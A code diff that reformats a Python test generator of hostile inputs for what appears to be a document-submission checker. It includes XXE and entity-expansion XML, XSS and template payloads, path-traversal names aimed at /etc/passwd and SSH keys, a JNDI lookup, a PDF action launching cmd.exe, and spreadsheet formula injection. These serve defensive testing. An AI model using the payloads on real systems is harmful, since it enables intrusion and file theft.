@@ -49,7 +49,11 @@ def _word(part: str, data: bytes) -> bytes:
 def entities(canary: str) -> Iterator[Item]:
     """XML that reads files or grows: in each part, in each encoding."""
     reads = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><x>&e;</x>'
-    laughs = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]><x>&a9;</x>"  # fmt: skip
+    laughs = (
+        '<!DOCTYPE x [<!ENTITY a0 "ha">'
+        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+        + "]><x>&a9;</x>"
+    )
     parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{canary}"> %p;]><x/>'
     for part in (
         "word/document.xml",
@@ -80,11 +84,17 @@ def outside(address: str, canary: str) -> Iterator[Item]:
     data = relation.replace(' TargetMode="External"', "").format("styles", "../../../../../../etc/passwd").encode()
     yield _file("external", "climbing", "neutral", "docx", _word("word/_rels/document.xml.rels", data))
     for what, body in (
-        ("img", f'<img src="{address}/i">'), ("script", f'<script src="{address}/s"></script>'), ("css", f'<link rel=stylesheet href="{address}/c">'),
-        ("import", f"<style>@import url({address}/m)</style>"), ("iframe", f'<iframe src="{address}/f"></iframe>'),
-        ("refresh", f'<meta http-equiv=refresh content="0;url={address}/r">'), ("object", f'<object data="{address}/o"></object>'),
-        ("base", f'<base href="{address}/"><img src=x>'), ("svg", f'<svg><image href="{address}/v"/></svg>'), ("file", f'<iframe src="file://{canary}"></iframe>'),
-    ):  # fmt: skip
+        ("img", f'<img src="{address}/i">'),
+        ("script", f'<script src="{address}/s"></script>'),
+        ("css", f'<link rel=stylesheet href="{address}/c">'),
+        ("import", f"<style>@import url({address}/m)</style>"),
+        ("iframe", f'<iframe src="{address}/f"></iframe>'),
+        ("refresh", f'<meta http-equiv=refresh content="0;url={address}/r">'),
+        ("object", f'<object data="{address}/o"></object>'),
+        ("base", f'<base href="{address}/"><img src=x>'),
+        ("svg", f'<svg><image href="{address}/v"/></svg>'),
+        ("file", f'<iframe src="file://{canary}"></iframe>'),
+    ):
         yield _file(
             "external", f"html-{what}", "neutral", "html", f"<html><body>{body}<p>{TEXT}</p></body></html>".encode()
         )
@@ -189,13 +199,27 @@ def locked_and_broken() -> Iterator[Item]:
     data[data.index(b"PK\x01\x02") + 8] |= 1
     yield Item("locked", "zip-member", "refused", name="locked.zip/a.txt", files={"locked.zip": bytes(data)})
     for what, data, extension in (
-        ("png-as-docx", b"\x89PNG\r\n\x1a\n" + bytes(900), "docx"), ("docx-as-pdf", whole, "pdf"), ("pdf-as-txt", page, "txt"), ("exe-as-docx", b"MZ" + bytes(900), "docx"),
-        ("html-as-docx", b"<html>", "docx"), ("zip-as-txt", zipped({"a": b"1"}), "txt"), ("noise", bytes(range(256)) * 40, "txt"), ("nothing", b"", "docx"),
-        ("nul", bytes(5000), "txt"), ("elf", b"\x7fELF" + bytes(900), "pdf"), ("macro-type", whole, "docm"), ("script-type", b"x", "js"), ("utf-32", TEXT.encode("utf-32"), "txt"),
-    ):  # fmt: skip
+        ("png-as-docx", b"\x89PNG\r\n\x1a\n" + bytes(900), "docx"),
+        ("docx-as-pdf", whole, "pdf"),
+        ("pdf-as-txt", page, "txt"),
+        ("exe-as-docx", b"MZ" + bytes(900), "docx"),
+        ("html-as-docx", b"<html>", "docx"),
+        ("zip-as-txt", zipped({"a": b"1"}), "txt"),
+        ("noise", bytes(range(256)) * 40, "txt"),
+        ("nothing", b"", "docx"),
+        ("nul", bytes(5000), "txt"),
+        ("elf", b"\x7fELF" + bytes(900), "pdf"),
+        ("macro-type", whole, "docm"),
+        ("script-type", b"x", "js"),
+        ("utf-32", TEXT.encode("utf-32"), "txt"),
+    ):
         yield _file("disguised", what, "refused", extension, bytes(data))
     yield _file("macros", "docx-with-vba", "any", "docx", _word("word/vbaProject.bin", OLE + bytes(900)))
-    for what, catalog in (("script", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), ("launch", b"/OpenAction<</S/Launch/F(cmd.exe)>>"), ("uri", b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>")):  # fmt: skip
+    for what, catalog in (
+        ("script", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
+        ("launch", b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
+        ("uri", b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>"),
+    ):
         yield _file("macros", f"pdf-{what}", "neutral", "pdf", _pdf(PAGE, catalog=catalog))
     crc = bytearray(zipped({"a.txt": TEXT.encode()}))
     struct.pack_into("<I", crc, 14, 1)
@@ -206,12 +230,45 @@ def locked_and_broken() -> Iterator[Item]:
 def paths(canary: str) -> Iterator[Item]:
     """File names that lead elsewhere."""
     below = canary.lstrip("/")
-    for number, name in enumerate((
-        canary, f"../../{below}", f"../../../../../../../../{below}", f"..\\..\\..\\..\\..\\..\\{below}", f"file://{canary}", f"./../../{below}", f"a/../../../{below}",
-        "/etc/passwd", "C:\\Windows\\win.ini", "\\\\192.0.2.1\\share\\a.txt", "//192.0.2.1/a.txt", "http://192.0.2.1/a.txt", "CON", "NUL.txt", "aux.docx", "COM1", "/dev/zero",
-        "/proc/self/environ", "~/.ssh/id_rsa", "$HOME/a.txt", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "a.txt\0.docx", "a.txt:stream", ".", "..", "", "x" * 5000 + ".txt", "${jndi:ldap://192.0.2.1/a}",
-        "\u202etxt.cod", "..\u2215..\u2215etc\u2215passwd", "．．／etc／passwd", "params/programme.yaml", "../roster.csv", "报名表.csv", "../报名表.csv",
-    )):  # fmt: skip
+    for number, name in enumerate(
+        (
+            canary,
+            f"../../{below}",
+            f"../../../../../../../../{below}",
+            f"..\\..\\..\\..\\..\\..\\{below}",
+            f"file://{canary}",
+            f"./../../{below}",
+            f"a/../../../{below}",
+            "/etc/passwd",
+            "C:\\Windows\\win.ini",
+            "\\\\192.0.2.1\\share\\a.txt",
+            "//192.0.2.1/a.txt",
+            "http://192.0.2.1/a.txt",
+            "CON",
+            "NUL.txt",
+            "aux.docx",
+            "COM1",
+            "/dev/zero",
+            "/proc/self/environ",
+            "~/.ssh/id_rsa",
+            "$HOME/a.txt",
+            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+            "a.txt\0.docx",
+            "a.txt:stream",
+            ".",
+            "..",
+            "",
+            "x" * 5000 + ".txt",
+            "${jndi:ldap://192.0.2.1/a}",
+            "\u202etxt.cod",
+            "..\u2215..\u2215etc\u2215passwd",
+            "．．／etc／passwd",
+            "params/programme.yaml",
+            "../roster.csv",
+            "报名表.csv",
+            "../报名表.csv",
+        )
+    ):
         if name:
             yield Item("paths", f"name-{number}", "refused", name=name)
     yield Item("paths", "link-to-file", "refused", name="link.txt", link=("link.txt", canary))
@@ -235,21 +292,80 @@ def paths(canary: str) -> Iterator[Item]:
 
 def injections() -> Iterator[Item]:
     """Texts that want to be more than text where they are shown, printed or opened."""
-    for number, text in enumerate((
-        f"<script>alert('{MARK}')</script>", f"<img src=x onerror=alert('{MARK}')>", f"<svg/onload=alert('{MARK}')>", f"</td></table><iframe srcdoc='{MARK}'>", f'"><b {MARK}="', f"<!--{MARK}",
-        f"]]><x>{MARK}", f"<style>body{{display:none}}/*{MARK}*/</style>", f"<a href='javascript:alert(\"{MARK}\")'>x</a>", f"&lt;script&gt;{MARK}", f"%3Cscript%3E{MARK}", f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
-        f"![{MARK}](http://192.0.2.1/a.png)", f"[{MARK}](javascript:alert(1))", f"```\n{MARK}\n```", f"$$\\href{{javascript:alert(1)}}{{{MARK}}}$$", f"\\(\\require{{html}}{MARK}\\)", f"<math><mtext></mtext><script>{MARK}</script></math>",
-        f"\x1b[31m{MARK}\x1b[0m", f"\x1b]0;{MARK}\x07", f"\x9b31m{MARK}", f"{MARK}\r\nSet-Cookie: a=b", f"{{{{ 7*7 }}}}{MARK}", f"{{% for x in y %}}{MARK}", f"${{{MARK}}}", f"#{{{MARK}}}", f"!!python/object/apply:os.system ['{MARK}']",
-        f"=HYPERLINK(\"http://192.0.2.1\",\"{MARK}\")", f"=cmd|'/C calc'!A0{MARK}", f"+{MARK}()", f"-2+3+{MARK}", f"@SUM({MARK})", f"\t={MARK}", f"\u202e{MARK}\u202c", f"\ufeff{MARK}\u200b", f"\ud7ff{MARK}\ufffe", f"{MARK}" + "\u0300" * 500, f"{MARK}" + "(" * 3000,
-    )):  # fmt: skip
+    for number, text in enumerate(
+        (
+            f"<script>alert('{MARK}')</script>",
+            f"<img src=x onerror=alert('{MARK}')>",
+            f"<svg/onload=alert('{MARK}')>",
+            f"</td></table><iframe srcdoc='{MARK}'>",
+            f'"><b {MARK}="',
+            f"<!--{MARK}",
+            f"]]><x>{MARK}",
+            f"<style>body{{display:none}}/*{MARK}*/</style>",
+            f"<a href='javascript:alert(\"{MARK}\")'>x</a>",
+            f"&lt;script&gt;{MARK}",
+            f"%3Cscript%3E{MARK}",
+            f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
+            f"![{MARK}](http://192.0.2.1/a.png)",
+            f"[{MARK}](javascript:alert(1))",
+            f"```\n{MARK}\n```",
+            f"$$\\href{{javascript:alert(1)}}{{{MARK}}}$$",
+            f"\\(\\require{{html}}{MARK}\\)",
+            f"<math><mtext></mtext><script>{MARK}</script></math>",
+            f"\x1b[31m{MARK}\x1b[0m",
+            f"\x1b]0;{MARK}\x07",
+            f"\x9b31m{MARK}",
+            f"{MARK}\r\nSet-Cookie: a=b",
+            f"{{{{ 7*7 }}}}{MARK}",
+            f"{{% for x in y %}}{MARK}",
+            f"${{{MARK}}}",
+            f"#{{{MARK}}}",
+            f"!!python/object/apply:os.system ['{MARK}']",
+            f'=HYPERLINK("http://192.0.2.1","{MARK}")',
+            f"=cmd|'/C calc'!A0{MARK}",
+            f"+{MARK}()",
+            f"-2+3+{MARK}",
+            f"@SUM({MARK})",
+            f"\t={MARK}",
+            f"\u202e{MARK}\u202c",
+            f"\ufeff{MARK}\u200b",
+            f"\ud7ff{MARK}\ufffe",
+            f"{MARK}" + "\u0300" * 500,
+            f"{MARK}" + "(" * 3000,
+        )
+    ):
         yield Item("injection", f"text-{number}", "neutral", text=text + TEXT)
 
 
 def cells() -> Iterator[tuple[str, str, str]]:
     """(class, value of 线上学时, outcome): numbers that are none, or far too many."""
     for value in (
-        "NaN", "inf", "-inf", "1e400", "1e-400", "9" * 400, "0x20", "1_000", "3,2", "٣٢", "³²", "一百", "=1+31", "32;DROP TABLE", "<b>32</b>", "32\u0000", "-32", "--32", "1/0", "True", "1e3", "#REF!", "99999", "32h", "${32}",
-    ):  # fmt: skip
+        "NaN",
+        "inf",
+        "-inf",
+        "1e400",
+        "1e-400",
+        "9" * 400,
+        "0x20",
+        "1_000",
+        "3,2",
+        "٣٢",
+        "³²",
+        "一百",
+        "=1+31",
+        "32;DROP TABLE",
+        "<b>32</b>",
+        "32\u0000",
+        "-32",
+        "--32",
+        "1/0",
+        "True",
+        "1e3",
+        "#REF!",
+        "99999",
+        "32h",
+        "${32}",
+    ):
         yield "numbers", value, "refused" if value not in ("1e3", "99999", "٣٢", "1e-400", "³²", "9" * 400) else "any"
 
 
@@ -303,9 +419,19 @@ def workbooks() -> Iterator[tuple[str, str, bytes]]:
 
 
 YAML = {
-    "tag": "title: !!python/object/apply:os.system ['true']\n", "aliases": "a: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]\n", "twice": "title: a\ntitle: b\n", "deep": "[" * 5000, "bytes": b"\xff\xfe\x00",
-    "large": "title: " + "a" * 2_000_000, "list": "- 1\n", "nothing": "", "merge": "a: {<<: {b: 1}}\n", "binary": "title: !!binary aGk=\n", "float": "hours: {online: .inf}\n", "nan": "hours: {online: .nan}\n",
-}  # fmt: skip
+    "tag": "title: !!python/object/apply:os.system ['true']\n",
+    "aliases": "a: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]\n",
+    "twice": "title: a\ntitle: b\n",
+    "deep": "[" * 5000,
+    "bytes": b"\xff\xfe\x00",
+    "large": "title: " + "a" * 2_000_000,
+    "list": "- 1\n",
+    "nothing": "",
+    "merge": "a: {<<: {b: 1}}\n",
+    "binary": "title: !!binary aGk=\n",
+    "float": "hours: {online: .inf}\n",
+    "nan": "hours: {online: .nan}\n",
+}
 
 
 def submissions(*, address: str, canary: str) -> list[Item]:
